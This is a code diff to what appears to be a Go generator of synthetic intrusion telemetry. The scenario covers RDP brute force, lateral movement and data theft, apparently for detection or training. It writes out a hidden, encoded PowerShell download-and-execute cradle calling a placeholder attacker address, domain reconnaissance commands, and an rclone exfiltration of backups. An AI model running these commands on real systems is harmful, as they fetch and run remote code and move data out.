@@ -37,10 +37,10 @@ const (
 	guessFrom   = 9*hour + 52*minute + 10*second
 	guessTo     = 10*hour + 14*minute + 40*second
 	alertIPAt   = 10*hour + 9*minute + 33*second
-	logonAt     = 10*hour + 16*minute + 21*second
+	logonAt     = 10*hour + 16*minute + 21*second + 387*millisecond
 	alertRDPAt  = 10*hour + 22*minute + 5*second
 	shellAt     = 10*hour + 31*minute + 7*second
-	moveAt      = 10*hour + 48*minute + 22*second
+	moveAt      = 10*hour + 48*minute + 22*second + 614*millisecond
 	rcloneAt    = 11*hour + 2*minute + 15*second
 	exfilFrom   = 11*hour + 4*minute + 10*second
 	exfilTo     = 12*hour + 18*minute + 50*second
@@ -48,7 +48,7 @@ const (
 	principalAt = 11*hour + 34*minute + 9*second
 	keysAt      = 11*hour + 37*minute + 15*second
 	vaultAt     = 11*hour + 41*minute + 2*second
-	logoffAt    = 12*hour + 31*minute + 44*second
+	logoffAt    = 12*hour + 31*minute + 44*second + 52*millisecond
 )
 
 // Numbers of the attack that the whole story turns on.
@@ -72,6 +72,7 @@ type story struct {
 	session               session // RDP from the attacker to web01
 	move                  session // network logon from web01 to db01
 	lateral               []connection
+	download              connection // the script that the encoded command fetches
 	processes             []process
 	exfil                 []transfer
 	deployment, rule      guid // correlation ids
@@ -121,6 +122,9 @@ type process struct {
 	pid, parentPID    int64
 	command           string
 	parentCommand     string
+	parentAt          ticks // when the parent started
+	grandParent       string
+	grandParentPID    int64
 	logonID           uint64
 	interactive       bool // in the attacker's desktop session
 	user, domain, sid string
@@ -204,11 +208,18 @@ func (s *story) layOutProcesses(r *rng) {
 	script := "$c=New-Object Net.WebClient;$c.Headers.Add('User-Agent','Mozilla/5.0');IEX $c.DownloadString('http://" + AttackerAddress + "/a.ps1')"
 	encoded := "powershell.exe -nop -w hidden -enc " + encodeCommand(script)
 	add := func(at ticks, on *machine, name, parent string, pid, parentPID int64, command, parentCommand string, logon uint64) *process {
-		s.processes = append(s.processes, process{
+		p := process{
 			at: s.start + at + int64(r.n(int(second))), on: on, img: img[name], parent: img[parent], pid: pid, parentPID: parentPID,
 			command: command, parentCommand: parentCommand, logonID: logon, interactive: on == s.co.web01,
 			user: guessAccount, domain: netbiosDomain, sid: s.serviceSID,
-		})
+			parentAt: s.session.at + 9*second, grandParent: "userinit.exe", grandParentPID: 0x0c30,
+		}
+		for i := range s.processes {
+			if q := &s.processes[i]; q.on == on && q.pid == parentPID {
+				p.parentAt, p.grandParent, p.grandParentPID = q.at, baseName(q.parent.path), q.parentPID
+			}
+		}
+		s.processes = append(s.processes, p)
 		return &s.processes[len(s.processes)-1]
 	}
 	s.processes = make([]process, 0, 8) // the pointers below must stay valid
@@ -220,6 +231,7 @@ func (s *story) layOutProcesses(r *rng) {
 	add(shellAt+171*second, web, "nltest.exe", "powershell.exe", 0x1b64, 0x1a2c, `"C:\Windows\System32\nltest.exe" /dclist:contoso.com`, encoded, id)
 	add(shellAt+305*second, web, "net.exe", "powershell.exe", 0x1bf0, 0x1a2c, `"C:\Windows\System32\net.exe" view \\db01`, encoded, id)
 	s.move.logonID = 0x91c04d7
+	s.download = connection{at: s.shell.at + 1_902_338, end: s.shell.at + 3*second, src: web.ip, dst: AttackerAddress, sport: 51640, dport: 80, sent: 1_412, received: 88_214}
 	s.rclone = add(rcloneAt, db, "rclone.exe", "wmiprvse.exe", 0x22f8, 0x0e5c,
 		`C:\ProgramData\Intel\rclone.exe copy D:\Backup\ drop:in --transfers 4 --config C:\ProgramData\Intel\r.conf`,
 		`C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`, s.move.logonID)
